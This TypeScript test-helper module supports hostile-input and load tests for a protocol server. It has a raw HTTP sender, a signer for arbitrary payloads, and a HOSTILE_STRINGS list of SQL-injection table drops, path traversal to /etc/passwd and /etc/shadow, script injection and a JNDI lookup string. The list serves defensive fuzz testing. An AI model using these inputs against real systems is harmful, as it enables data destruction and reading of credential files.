/**
 * Shared by the hostile-input and load tests (test/faults/hostile-*, load-*): the fast/long switch,
 * hostile strings, a sealer that signs any plaintext bytes (what a compromised but enrolled node
 * could send), raw HTTP over a socket (truncated bodies, lying Content-Length), and the set of
 * documented error codes.
 */
import { connect as netConnect } from 'node:net';
import { connect as tlsConnect, type ConnectionOptions } from 'node:tls';
import { ALL_ERROR_TABLES } from '../helpers/all-errors.js';
import { certFromPem, jweEncrypt, jwsSignDetached, privateKeyFromPem, uuidv7 } from '../../protocol/crypto.js';
import { encBinding, signingInput, type Envelope, type EnvelopeHeader, type EnvelopeType } from '../../protocol/envelope.js';
import { getSuite } from '../../protocol/suites.js';
import { PROTOCOL_VERSION } from '../../protocol/version.js';

/** `CREDIT_FAULTS=long` (npm run test:faults): thousands of fuzz cases, full load. */
export const LONG = process.env.CREDIT_FAULTS === 'long';

/** `fast` cases under `npm test`, `long` under CREDIT_FAULTS=long. */
export const runs = (fast: number, long: number): number => (LONG ? long : fast);

/** Every code docs/errors.md documents (the errors-doc test keeps the tables and the doc one-to-one). */
export const DOCUMENTED_CODES: ReadonlySet<string> = new Set(Object.values(ALL_ERROR_TABLES).flatMap((t) => Object.keys(t)));

/** Strings an attacker tries in every text field: SQL injection, path traversal, control characters, markup. */
export const HOSTILE_STRINGS: readonly string[] = [
  "'; DROP TABLE node_records; --",
  "' OR '1'='1",
  '" OR ""="',
  "1; DELETE FROM audit_log WHERE 1=1; --",
  "x' UNION SELECT name, sql FROM sqlite_master --",
  "'); DROP TABLE hub_records; SELECT ('",
  "$$; DROP SCHEMA public CASCADE; $$",
  '\\x27; TRUNCATE hub_nodes; --',
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win32.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '/dev/zero',
  'file:///etc/shadow',
  '<script>alert(1)</script>',
  '${jndi:ldap://x.example/a}',
  '{{7*7}}',
  'a\u0000b',
  '\u202e\u0000%00\r\n',
  'ab\ud800',
  '名称有误\uFEFF',
];

/** Every name in `rows` of sqlite_master / information_schema: the tables of a store. */
export async function tableNames(db: import('knex').Knex): Promise<string[]> {
  const client = String(db.client.config.client);
  if (client === 'pg') {
    const r = await db.raw('select table_name from information_schema.tables where table_schema = current_schema() order by 1');
    return (r.rows as { table_name: string }[]).map((x) => x.table_name);
  }
  const rows = (await db.raw("select name from sqlite_master where type = 'table' order by 1")) as { name: string }[];
  return rows.map((x) => x.name);
}

export interface RawSender {
  nodeId: string;
  keyPem: string;
  certPem: string;
}

/**
 * Encrypt-then-sign exactly like protocol/seal.ts, but of arbitrary plaintext bytes (not JSON, a
 * lone surrogate, invalid UTF-8, 100k levels deep): what an enrolled node with a modified sealer
 * could send. The envelope is otherwise valid (signature, binding, recipient).
 */
export async function sealRaw(o: { type: EnvelopeType; from: RawSender; to?: string; recipientCertPem: string; seq: number; plaintext: Uint8Array | string; extra?: Record<string, unknown> }): Promise<Envelope> {
  const senderKey = privateKeyFromPem(o.from.keyPem);
  const suite = getSuite('CF1-RSA-OAEP-256-A256GCM-PS256');
  const header: EnvelopeHeader = {
    ...o.extra,
    v: PROTOCOL_VERSION, suite: suite.name, type: o.type, from: o.from.nodeId, to: o.to ?? '430000',
    id: uuidv7(), seq: o.seq, ts: new Date().toISOString(), x5c: [certFromPem(o.from.certPem).derB64],
  };
  const bytes = typeof o.plaintext === 'string' ? Buffer.from(o.plaintext, 'utf8') : o.plaintext;
  const enc = jweEncrypt(bytes, certFromPem(o.recipientCertPem).publicKey, { alg: suite.jweAlg, enc: suite.jweEnc, cty: 'json', cf: encBinding(header) });
  const sig = await jwsSignDetached(signingInput(header, enc), senderKey, { alg: suite.jwsAlg });
  return { ...header, enc, sig };
}

/** JSON text of `depth` nested arrays (`[[[…]]]`) or objects (`{"a":{"a":…}}`). */
export function nested(depth: number, kind: 'array' | 'object' = 'array'): string {
  return kind === 'array' ? '['.repeat(depth) + ']'.repeat(depth) : '{"a":'.repeat(depth) + '0' + '}'.repeat(depth);
}

export interface RawAnswer {
  /** HTTP status, or 0 when the server closed the connection without an answer. */
  status: number;
  body: string;
}

/**
 * Writes `head` (request line + headers, without the blank line) and then `chunks` to a fresh
 * connection, optionally closing the write side early, and reads whatever comes back.
 */
export function rawHttp(url: string, o: { head: string; chunks?: (string | Buffer)[]; endEarly?: boolean; tls?: ConnectionOptions; waitMs?: number }): Promise<RawAnswer> {
  const u = new URL(url);
  return new Promise((resolve) => {
    const opts = { host: u.hostname, port: Number(u.port) };
    const socket = u.protocol === 'https:' ? tlsConnect({ ...opts, ...o.tls }) : netConnect(opts);
    const got: Buffer[] = [];
    let done = false;
    const finish = () => {
      if (done) return;
      done = true;
      clearTimeout(timer);
      socket.destroy();
      const text = Buffer.concat(got).toString('utf8');
      const m = /^HTTP\/1\.1 (\d{3})/.exec(text);
      const i = text.indexOf('\r\n\r\n');
      resolve({ status: m ? Number(m[1]) : 0, body: i === -1 ? '' : text.slice(i + 4) });
    };
    const timer = setTimeout(finish, o.waitMs ?? 2000);
    socket.on('data', (d: Buffer) => {
      got.push(d);
      const text = Buffer.concat(got).toString('utf8');
      const i = text.indexOf('\r\n\r\n');
      const len = /content-length: (\d+)/i.exec(text.slice(0, i));
      if (i !== -1 && len && Buffer.byteLength(text.slice(i + 4)) >= Number(len[1])) finish();
    });
    socket.on('error', finish);
    socket.on('close', finish);
    socket.once(u.protocol === 'https:' ? 'secureConnect' : 'connect', () => {
      socket.write(o.head + '\r\n\r\n');
      for (const c of o.chunks ?? []) socket.write(c);
      if (o.endEarly) socket.end();
    });
  });
}

/** Parses `body` as JSON, or undefined. */
export function jsonOf(body: string): { code?: string; message?: string } | undefined {
  try {
    return JSON.parse(body) as { code?: string };
  } catch {
    return undefined;
  }
}

/** Resident set size of this process, MiB. */
export const rssMiB = (): number => Math.round(process.memoryUsage().rss / 1048576);
